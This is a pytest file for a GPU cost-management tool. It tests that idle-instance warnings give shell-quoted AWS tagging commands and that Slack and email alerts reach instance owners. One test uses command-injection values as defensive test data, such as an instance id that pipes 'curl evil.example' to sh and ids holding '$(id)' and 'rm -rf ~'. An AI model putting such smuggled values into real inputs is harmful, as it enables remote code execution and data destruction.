"""Reaching the owner of an idle instance (issue 26, item 6): every warning carries the exact, shell-quoted
`aws ec2 create-tags` lines that snooze (24 h) or protect it without a console; Slack mentions the owner when the
owner tag is a Slack user id or an email Slack knows (users.lookupByEmail); email shows the owner tag as written."""

from __future__ import annotations

import shlex
from datetime import timedelta

from gpufinops.config import load_settings
from gpufinops.model import TAG_PROTECT, TAG_SNOOZE, Action
from gpufinops.notify import messages as m
from gpufinops.notify.email import text_of as text_part
from gpufinops.notify.markup import plain
from gpufinops.notify.routing import Deliveries
from tests.notify.test_messages import B, T0, decision, inst


def _warn(i, buttons=False):
    return m.idle_warning(i, decision(i.instance_id), marked_at=T0, stop_at=T0 + timedelta(minutes=15),
                          channel="#c", dry_run=False, action=Action.STOP, buttons=buttons)


def _commands(notice) -> list[str]:
    return [plain(n).split(": ", 1)[1] for n in notice.notes if "aws ec2 create-tags" in n]


def test_a_warning_gives_the_exact_commands_to_snooze_24h_or_protect():
    i = inst()
    snooze, protect = _commands(_warn(i))
    assert snooze == (f"aws ec2 create-tags --region us-east-1 --resources {i.instance_id} "
                      f"--tags Key={TAG_SNOOZE},Value=2024-05-02T12:00:00Z")
    assert protect == f"aws ec2 create-tags --region us-east-1 --resources {i.instance_id} --tags Key={TAG_PROTECT},Value=true"
    # In Slack: inside code spans of the context notes, next to the buttons when there are any.
    text = str(B(_warn(i, buttons=True)))
    assert "or use the buttons above" in text and f"Key={TAG_PROTECT},Value=true`" in text


def test_untrusted_ids_and_regions_are_shell_quoted_or_the_command_is_left_out():
    hostile = inst(instance_id="i-0abc; curl evil.example|sh", region="us-east-1 $(id)")
    snooze, protect = _commands(_warn(hostile))
    argv = shlex.split(protect)  # the shell sees exactly these words: nothing runs
    assert argv[:4] == ["aws", "ec2", "create-tags", "--region"]
    assert argv[4] == "us-east-1 $(id)" and argv[6] == "i-0abc; curl evil.example|sh" and len(argv) == 9
    assert shlex.split(snooze)[6] == "i-0abc; curl evil.example|sh"
    html = _warn(inst(instance_id="i-0abc<!channel>&x"))
    assert "&lt;!channel&gt;" in " ".join(html.notes) and "<!channel>" not in " ".join(html.notes)
    # A line that cannot be shown whole in a code span is not shown at all (never a wrong command).
    for bad in (inst(instance_id="i-0abc`rm -rf ~`"), inst(instance_id="i-0abc\nrm"), inst(region=""),
                inst(provider="kubernetes")):
        assert _commands(_warn(bad)) == []


class _Chat:
    """A chat delivery that records what it was asked to send; Slack knows one email."""

    def __init__(self, known: dict[str, str]):
        self.known, self.sent, self.lookups = known, [], []

    def send(self, notice):
        self.sent.append(notice)
        return True

    def user_id_for_email(self, email):
        self.lookups.append(email)
        return self.known.get(email)

    def retry_due(self, now):
        return 0


class _Email:
    def __init__(self):
        self.sent = []

    def send(self, notice, to):
        self.sent.append((notice, to))
        return True


def test_slack_mentions_the_owner_by_id_or_by_email_and_email_shows_the_tag(monkeypatch):
    monkeypatch.setenv("GPUFINOPS_TEST_REACH_TOKEN", "xoxb-test")
    settings = load_settings(slack={"token": {"env": "GPUFINOPS_TEST_REACH_TOKEN"}})
    chat, email = _Chat({"ana@example.com": "U0ANA00001"}), _Email()
    router = Deliveries(chat, settings, email)

    by_id = _warn(inst(tags={"owner": "U0BOB00001", "team": "ml"}))
    assert router.send(by_id)
    sent = chat.sent[-1]
    assert sent.text.endswith("(owner <@U0BOB00001>)") and ("Owner", "<@U0BOB00001>") in sent.facts
    assert "<@U0BOB00001>" in str(B(sent)) and chat.lookups == []

    by_email = _warn(inst(1, tags={"owner": "ana@example.com", "team": "ml"}))
    assert router.send(by_email)
    sent = chat.sent[-1]
    assert ("Owner", "<@U0ANA00001> (ana@example.com)") in sent.facts and "<@U0ANA00001>" in sent.text
    assert email.sent == []  # Slack reaches her: no email copy; no DM either (dm_owners is off)
    assert len(chat.sent) == 2

    unknown = _warn(inst(2, tags={"owner": "carl@example.com"}))
    assert router.send(unknown)
    assert "<@" not in chat.sent[-1].text  # nobody to mention: the tag as written
    [(copy, to)] = email.sent  # only an address is known: the owner gets it by email, the tag as written
    assert to == "carl@example.com" and "<@" not in text_part(copy) and "carl@example.com" in text_part(copy)
    assert "aws ec2 create-tags" in text_part(copy)

    named = _warn(inst(3, tags={"owner": "alice"}))  # neither an id nor an email: no mention, no lookup
    assert router.send(named) and "<@" not in chat.sent[-1].text and chat.lookups.count("alice") == 0


def test_dm_owners_sends_the_mentioned_warning_to_the_owner_too(monkeypatch):
    monkeypatch.setenv("GPUFINOPS_TEST_REACH_TOKEN", "xoxb-test")
    settings = load_settings(slack={"token": {"env": "GPUFINOPS_TEST_REACH_TOKEN"}, "dm_owners": True})
    chat = _Chat({"ana@example.com": "U0ANA00001"})
    assert Deliveries(chat, settings).send(_warn(inst(tags={"owner": "ana@example.com"})))
    channel_copy, dm = chat.sent
    assert dm.channel == "U0ANA00001" and dm.key.startswith("dm:") and "<@U0ANA00001>" in dm.text


def test_a_mention_is_only_ever_a_slack_user_id():
    n = _warn(inst())
    assert m.mention_owner(n, "<!channel>") is n and m.mention_owner(n, "U0ANA00001|x") is n


def test_every_notice_about_an_instance_takes_its_warnings_routes(monkeypatch):
    """Issue 35: the owner's routes (mention, DM, email) are those of the warning for every notice about the
    instance: a "Stop cancelled" under the warning reaches the same people, each copy under the warning's copy."""
    from dataclasses import replace

    monkeypatch.setenv("GPUFINOPS_TEST_REACH_TOKEN", "xoxb-test")
    settings = load_settings(slack={"token": {"env": "GPUFINOPS_TEST_REACH_TOKEN"}, "dm_owners": True})
    chat, email = _Chat({"ana@example.com": "U0ANA00001"}), _Email()
    router = Deliveries(chat, settings, email)
    for k, owner in enumerate(("ana@example.com", "carl@example.com")):
        i = inst(k, tags={"owner": owner, "team": "ml"})
        warning = _warn(i)
        cancelled = replace(m.mark_cancelled(i, reason="became active", marked_at=T0, channel="#c"),
                            thread_key=warning.key)
        assert router.send(warning) and router.send(cancelled)
    # ana (Slack knows her): mentioned in the channel and a DM, for both; the DM of the cancel under the warning's DM
    to_ana = [n for n in chat.sent if "U0ANA00001" in n.text]
    assert [(n.kind, n.channel, n.key.startswith("dm:")) for n in to_ana] == [
        ("warning", "#c", False), ("warning", "U0ANA00001", True),
        ("cancelled", "#c", False), ("cancelled", "U0ANA00001", True)]
    assert to_ana[3].thread_key == f"dm:{to_ana[0].key}"
    # carl (only an address): both by email, the cancel's copy under the warning's copy
    assert [(n.kind, to) for n, to in email.sent] == [("warning", "carl@example.com"),
                                                      ("cancelled", "carl@example.com")]
    assert email.sent[1][0].thread_key == email.sent[0][0].key


def test_a_restore_result_reaches_the_owner_as_its_stop_notice_did(monkeypatch):
    """The reply a Restore click comes to goes under the stop notice in the click's conversation, and to an owner
    known only by address by email (under the stop notice's email); a reply in the owner's own DM is not copied
    to that DM again."""
    monkeypatch.setenv("GPUFINOPS_TEST_REACH_TOKEN", "xoxb-test")
    settings = load_settings(slack={"token": {"env": "GPUFINOPS_TEST_REACH_TOKEN"}, "dm_owners": True})
    chat, email = _Chat({"ana@example.com": "U0ANA00001"}), _Email()
    router = Deliveries(chat, settings, email)

    def reply(owner, channel):
        return m.restore_result("k8s:ml/Deployment/infer", "ml/Deployment/infer", "restored", replicas=3,
                                who="U0BOB00001", detail="", dry_run=False, key=f"restore:{owner}:{channel}",
                                thread_key="stop:k8s:ml/Deployment/infer:x", channel=channel, owner=owner, team="ml")

    assert router.send(reply("carl@example.com", "C0TEAM0001"))
    assert [n.channel for n in chat.sent] == ["C0TEAM0001"]
    [(copy, to)] = email.sent
    assert to == "carl@example.com" and copy.thread_key == "email:stop:k8s:ml/Deployment/infer:x"
    assert router.send(reply("ana@example.com", "D0ANA00001"))  # clicked in her DM copy: answered there, once
    assert [n.channel for n in chat.sent] == ["C0TEAM0001", "D0ANA00001"] and len(email.sent) == 1
    assert router.send(reply("ana@example.com", "C0TEAM0001"))  # clicked in the team's channel: her DM too
    assert [n.channel for n in chat.sent][2:] == ["C0TEAM0001", "U0ANA00001"]
    assert chat.sent[-1].thread_key == "dm:stop:k8s:ml/Deployment/infer:x"
